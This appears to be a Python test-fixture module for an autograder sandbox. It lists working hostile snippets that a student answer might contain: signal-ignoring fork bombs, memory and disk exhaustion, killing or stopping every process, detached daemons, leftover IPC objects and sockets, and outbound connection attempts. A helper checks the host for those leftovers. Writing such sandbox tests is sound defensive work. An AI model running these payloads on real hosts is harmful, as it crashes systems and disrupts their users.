"""What hostile students put into an answer's cell; whatever they leave has LEFT in its name or KEY for one."""

import ctypes
import os
from pathlib import Path

LEFT = "left-by-a-hostile-student"
KEY = 0x6C656674
_IMPORTS = "import ctypes, mmap, os, signal, socket, subprocess, sys, threading, time\n"
_DEAF = "for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)\n"

BOMBS = {
    "a fork bomb": _DEAF + "while True:\n    try: os.fork()\n    except OSError: pass",
    "a fork bomb in sessions of their own": "while True:\n    try:\n        if os.fork() == 0: os.setsid()\n    except OSError: pass",
    "one large object": "x = b'x' * (8 * 1024**3)",
    "memory that processes share": (
        "m = mmap.mmap(-1, 2 * 1024**3)\nfor i in range(4): os.fork()\nfor i in range(2 * 1024): m.write(b'x' * 1024**2)\ntime.sleep(60)"
    ),
    "memory in many processes": "for i in range(16):\n    if os.fork() == 0:\n        x = b'x' * (100 * 1024**2)\n        time.sleep(60)\ntime.sleep(60)",
    "a disk flood": "for number in range(10**6):\n    with open(f'{number % 8}big', 'ab') as file: file.write(bytes(8 * 1024**2))",
    "files without end": "for number in range(10**7): open(f'{number}', 'w').close()",
    "endless output": "while True: print('x' * 10_000)",
    "one huge message": "print('x' * 300_000_000)",
    "a loop that no interrupt ends": _DEAF + "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "threads that burn": "for i in range(50): threading.Thread(target=lambda: [None for i in iter(int, 1)], daemon=True).start()",
    "killing all it sees": "os.kill(-1, signal.SIGKILL)",
    "stopping all it sees": "os.kill(-1, signal.SIGSTOP)",
    "leaving at once": "os._exit(0)",
    "leavings": (
        f"for folder in ('.', '/tmp', '/dev/shm', '/var/tmp', os.environ['HOME']):\n"
        f"    try: open(os.path.join(folder, '{LEFT}'), 'w').write('an answer')\n    except OSError: pass\n"
        f"libc = ctypes.CDLL(None)\nlibc.shmget({KEY}, 4096, 0o1666)\nlibc.semget({KEY}, 1, 0o1666)\nlibc.msgget({KEY}, 0o1666)\n"
        f"libc.mq_open(b'/{LEFT}', 0o102, 0o666, None)\nlibc.syscall(248, b'user', b'{LEFT}', b'x', 1, -4)\n"
        f"if os.fork() == 0:\n    os.setsid()\n    listener = socket.socket(socket.AF_UNIX)\n    listener.bind('\\0{LEFT}')\n    listener.listen()\n    time.sleep(600)"
    ),
    "daemons": (
        f"open('{LEFT}', 'w').write('while True: pass')\nfor i in range(20):\n    if os.fork() == 0:\n        os.setsid()\n"
        f"        if os.fork() == 0: os.execl(sys.executable, sys.executable, '-I', '{LEFT}')\n        os._exit(0)"
    ),
    "a way out": (
        "for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    for address in (('1.1.1.1', 53), ('127.0.0.1', 22)):\n        try:\n"
        "            one = socket.socket(socket.AF_INET, kind)\n            one.settimeout(1)\n            one.connect(address)\n"
        "            one.send(b'an answer')\n        except OSError: pass"
    ),
    "a crash": "ctypes.string_at(0)",
    "lost descriptors": "os.closerange(3, 256)",
    "a niceness": "os.nice(19)\nos.sched_setaffinity(0, {0})\nwhile True: pass",
}


def bomb(name: str) -> str:
    """Return the source that a hostile student adds to an answer."""
    return _IMPORTS + BOMBS[name]


def left() -> list[str]:
    """Return what of the leavings is to be found on the host."""
    queue = ctypes.CDLL(None, use_errno=True).mq_open(f"/{LEFT}".encode(), os.O_RDONLY)
    return [
        *(str(path) for folder in ("/tmp", "/var/tmp", "/dev/shm") for path in Path(folder).glob(f"*{LEFT}*")),  # noqa: S108 - looked at only
        *(f"{kind} of System V" for kind in ("shm", "sem", "msg") if str(KEY) in Path(f"/proc/sysvipc/{kind}").read_text()),
        *(["a message queue"] if queue >= 0 else []),
        *(file for file in ("/proc/keys", "/proc/net/unix") if LEFT in Path(file).read_text()),
    ]
